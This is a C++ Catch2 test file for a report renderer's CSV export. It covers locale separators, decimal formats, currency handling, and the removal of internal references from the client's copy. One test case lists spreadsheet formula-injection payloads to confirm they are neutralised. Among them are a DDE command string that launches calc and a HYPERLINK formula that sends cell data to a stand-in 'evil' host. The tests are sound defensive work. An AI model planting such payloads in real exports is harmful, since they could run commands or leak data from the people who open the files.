#include <catch2/catch.hpp>

#include "render/locale.h"
#include "sample.h"

using namespace hb;
using namespace hb::render;

namespace {

// The cells of RFC 4180 text, read with the separator that a spreadsheet expects.
std::vector<std::vector<std::string>> cells_of(std::string_view csv, char separator) {
    std::vector<std::vector<std::string>> rows(1, {""});
    bool quoted = false;
    for (std::size_t i = 0; i < csv.size(); ++i) {
        const char c = csv[i];
        if (c == '"' && quoted && i + 1 < csv.size() && csv[i + 1] == '"') {
            rows.back().back() += csv[++i];
        } else if (c == '"' && (quoted || rows.back().back().empty())) {
            quoted = !quoted;
        } else if (!quoted && c == separator) {
            rows.back().emplace_back();
        } else if (!quoted && (c == '\n' || c == '\r')) {
            if (c == '\n') rows.emplace_back(1, "");
        } else {
            rows.back().back() += c;
        }
    }
    return rows;
}

bool is_number(std::string_view cell) {
    return !cell.empty() && cell.find_first_not_of("-0123456789.:") == std::string_view::npos;
}

// What a spreadsheet takes for a formula: the first character that is neither a space nor a quote.
bool is_formula(std::string_view cell) {
    while (!cell.empty() && (cell.front() == ' ' || cell.front() == '"')) cell.remove_prefix(1);
    if (cell.empty() || is_number(cell)) return false;
    for (const std::string_view start :
         {"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"})
        if (cell.starts_with(start)) return true;
    return false;
}

} // namespace

TEST_CASE("the CSV has a head, one row for each line and three for the sums, numbers as numbers") {
    const std::string csv = report_csv(sample::sent_report());
    const auto rows = cells_of(csv, ',');
    REQUIRE(rows.size() == 10); // the head, five lines, sums, what follows the last line end
    CHECK(rows[0][0] == "\xEF\xBB\xBFline");
    CHECK(rows[0].size() == rows[5].size());
    CHECK(rows[1][3] == "Landing page for the spring sale");
    CHECK(rows[1][15] == "605.00");
    CHECK(rows[2][9] == "Designer Five, Developer Six");
    CHECK(rows[3][7] == "no");
    CHECK(rows[3][14].empty());
    CHECK(rows[5][15] == "-45.00");
    const auto& view = sample::sent_report();
    const auto amount = [&](std::int64_t minor) {
        return domain::format_amount(minor, view.currency);
    };
    CHECK(rows[6][1] == "subtotal");
    CHECK(rows[6][15] == amount(view.totals.subtotal));
    CHECK(rows[7][1] == "vat");
    CHECK(rows[7][3] == "VAT 20 %");
    CHECK(rows[7][15] == amount(view.totals.vat));
    CHECK(rows[8][1] == "total");
    CHECK(rows[8][15] == amount(view.totals.total));
    CHECK(rows[8][16] == "BYN");
}

TEST_CASE("the CSV of other languages has semicolons, decimal commas and heads in their words") {
    for (const char* language : {"ru", "fr", "kk", "uk"}) {
        INFO(language);
        domain::ReportView view = sample::sent_report();
        view.locale = language;
        view.lines[0].amount = 123456789;
        const std::string csv = report_csv(view, Audience::Client);
        CHECK(csv.starts_with("\xEF\xBB\xBF"));
        const auto rows = cells_of(csv, ';');
        CHECK(rows[0][3] == words_for(language).csv_heads[3]);
        CHECK(rows[0].size() == 16);
        CHECK(rows[1][14] == "1234567,89");
        CHECK(rows[1][9] == "18900");
        CHECK(rows[1][10] == "5:15");
        CHECK(rows[5][14] == "-45,00");
        CHECK(rows[8][1] == "total");
    }
}

TEST_CASE("a currency without decimals has none in the CSV") {
    domain::ReportView view = sample::month(3, "ru", {"JPY", 0});
    const auto rows = cells_of(report_csv(view, Audience::Client), ';');
    CHECK(rows[6][14] == std::to_string(view.totals.total));
    CHECK(rows[6][15] == "JPY");
}

TEST_CASE("no text of a remote becomes a formula, whatever separator the spreadsheet expects "
          "(S6)") {
    const std::vector<std::string> payloads = {"=1+1",
                                               "+1+1",
                                               "-1+1",
                                               "@SUM(A1)",
                                               "\t=1+1",
                                               "\r=1+1",
                                               "\n=1+1",
                                               " =1+1",
                                               "  -2+3",
                                               "\"=1+1",
                                               "\"\"\"=1+1\"",
                                               "' =1",
                                               "a,=1+1",
                                               "a;=1+1",
                                               "a; \"=1+1",
                                               "a\t=1",
                                               "a\n=1",
                                               "a\r\n@x",
                                               "=cmd|' /C calc'!A0",
                                               "＝1+1",
                                               "＋1",
                                               "－1",
                                               "＠x",
                                               ";=1+1",
                                               ",+1",
                                               "x\",=1+1,\"",
                                               "x\";=1+1;\"",
                                               "=HYPERLINK(\"http://evil/?\"&A1,\"ok\")"};
    for (const std::string& payload : payloads) {
        domain::ReportView view = sample::sent_report();
        view.lines.resize(1);
        domain::Line& line = view.lines[0];
        line.task_title = line.work_type = line.project_name = line.reason = line.task_url =
            payload;
        line.people = {{"bitrix24:user:5", payload, 1}};
        line.task_ref.remote = payload;
        const std::string csv = report_csv(view);
        for (const char separator : {',', ';', '\t', '|'})
            for (const auto& row : cells_of(csv, separator))
                for (const std::string& cell : row) {
                    INFO("payload " << payload << " read with " << separator << " gives " << cell);
                    CHECK_FALSE(is_formula(cell));
                }
    }
}

TEST_CASE("text that is harmless is left as it is") {
    domain::ReportView view = sample::sent_report();
    view.lines.resize(1);
    view.lines[0].task_title = "Checkout - step 2 (a+b = c), \"quick\"";
    const auto rows = cells_of(report_csv(view), ',');
    CHECK(rows[1][3] == "Checkout - step 2 (a+b = c), \"quick\"");
}

TEST_CASE("the client's CSV has no references of ours (G22)") {
    const domain::ReportView view = sample::sent_report();
    const std::string csv = report_csv(view, Audience::Client);
    CHECK(csv.find("_ref") == std::string::npos);
    CHECK(csv.find(":task:") == std::string::npos);
    const auto rows = cells_of(csv, ',');
    const auto ours = cells_of(report_csv(view), ',');
    REQUIRE(rows.size() == ours.size());
    REQUIRE(rows.size() == 10);
    for (std::size_t i = 0; i + 1 < rows.size(); ++i) {
        auto without = ours[i];
        without.erase(without.begin() + 4); // task_ref
        CHECK(rows[i] == without);
    }
}
